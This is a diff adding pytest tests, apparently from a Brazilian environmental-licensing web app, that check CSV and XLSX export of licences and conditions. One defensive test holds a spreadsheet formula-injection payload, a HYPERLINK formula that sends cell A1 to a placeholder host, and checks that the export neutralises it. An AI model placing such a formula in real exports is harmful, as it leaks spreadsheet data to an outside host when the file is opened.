@@ -0,0 +1,84 @@
+import pytest
+import csv
+import io
+import zipfile
+from datetime import date
+from src.models.licenciamento import Empresa, Licenca, Condicionante
+
+EMPRESA_CNPJ_EXPORT_TEST = "60746948000112" # CNPJ_BRADESCO
+
+
+@pytest.fixture
+def dados_exportacao(db):
+    """Cria uma empresa com duas licenças e condicionantes para exportação."""
+    empresa = Empresa(razao_social='Empresa Exportação', cnpj=EMPRESA_CNPJ_EXPORT_TEST)
+    db.session.add(empresa)
+    db.session.flush()
+    licenca_1 = Licenca(empresa_id=empresa.id, tipo_licenca='LO', numero_licenca='LO-1', data_vencimento=date(2027, 1, 1))
+    licenca_2 = Licenca(empresa_id=empresa.id, tipo_licenca='LI', numero_licenca='LI-2', data_vencimento=date(2026, 1, 1))
+    db.session.add_all([licenca_1, licenca_2])
+    db.session.flush()
+    db.session.add_all([
+        Condicionante(licenca_id=licenca_1.id, descricao='Relatório; "semestral"', data_limite=date(2026, 3, 15), prazo_dias=90),
+        Condicionante(licenca_id=licenca_1.id, descricao='Monitoramento', status='cumprida'),
+        Condicionante(licenca_id=licenca_2.id, descricao='Outorga'),
+    ])
+    db.session.commit()
+    return licenca_1.id
+
+def test_exportar_condicionantes_csv(client, db, dados_exportacao):
+    """Testa a exportação CSV com os filtros da listagem."""
+    response = client.get(f'/api/export/condicionantes.csv?licenca_id={dados_exportacao}')
+    assert response.status_code == 200
+    assert response.mimetype == 'text/csv'
+    assert 'attachment; filename="condicionantes_' in response.headers['Content-Disposition']
+
+    texto = response.get_data().decode('utf-8-sig')
+    linhas = list(csv.reader(io.StringIO(texto), delimiter=';'))
+    assert linhas[0][:3] == ['ID', 'Empresa', 'CNPJ']
+    assert len(linhas) == 3
+    assert linhas[1][1] == 'Empresa Exportação'
+    assert linhas[1][5] == 'Relatório; "semestral"'
+    assert linhas[1][7] == '2026-03-15'
+
+    response = client.get('/api/export/condicionantes.csv?status=cumprida')
+    linhas = list(csv.reader(io.StringIO(response.get_data().decode('utf-8-sig')), delimiter=';'))
+    assert [linha[5] for linha in linhas[1:]] == ['Monitoramento']
+
+def test_exportar_licencas_xlsx(client, db, dados_exportacao):
+    """Testa que a exportação XLSX gera um pacote válido com as linhas esperadas."""
+    response = client.get('/api/export/licencas.xlsx')
+    assert response.status_code == 200
+    assert response.mimetype == 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
+
+    pacote = zipfile.ZipFile(io.BytesIO(response.get_data()))
+    assert pacote.testzip() is None
+    assert {'[Content_Types].xml', 'xl/workbook.xml', 'xl/styles.xml', 'xl/worksheets/sheet1.xml'} <= set(pacote.namelist())
+    planilha = pacote.read('xl/worksheets/sheet1.xml').decode('utf-8')
+    assert planilha.count('<row>') == 3
+    assert 'LO-1' in planilha and 'LI-2' in planilha
+    # Datas são gravadas como número serial do Excel com estilo de data
+    assert f'<c s="1"><v>{(date(2027, 1, 1) - date(1899, 12, 30)).days}</v></c>' in planilha
+
+def test_exportacao_neutraliza_formulas(client, db, dados_exportacao):
+    """Testa que textos iniciados por =, +, -, @ saem prefixados com ' no CSV e no XLSX."""
+    formula = '=HYPERLINK("http://exemplo.invalido/?d="&A1,"Abrir")'
+    db.session.add(Condicionante(licenca_id=dados_exportacao, descricao=formula, responsavel='@equipe',
+                                 observacoes='-10 dias'))
+    db.session.commit()
+
+    response = client.get(f'/api/export/condicionantes.csv?licenca_id={dados_exportacao}')
+    linhas = list(csv.reader(io.StringIO(response.get_data().decode('utf-8-sig')), delimiter=';'))
+    assert linhas[-1][5] == "'" + formula
+    assert linhas[-1][9] == "'@equipe"
+    assert linhas[-1][11] == "'-10 dias"
+    assert linhas[1][5] == 'Relatório; "semestral"'
+
+    response = client.get(f'/api/export/condicionantes.xlsx?licenca_id={dados_exportacao}')
+    planilha = zipfile.ZipFile(io.BytesIO(response.get_data())).read('xl/worksheets/sheet1.xml').decode('utf-8')
+    assert '<t xml:space="preserve">\'=HYPERLINK(' in planilha
+
+def test_exportar_formato_invalido(client, db):
+    """Testa que formatos não suportados são rejeitados."""
+    response = client.get('/api/export/condicionantes.pdf')
+    assert response.status_code == 404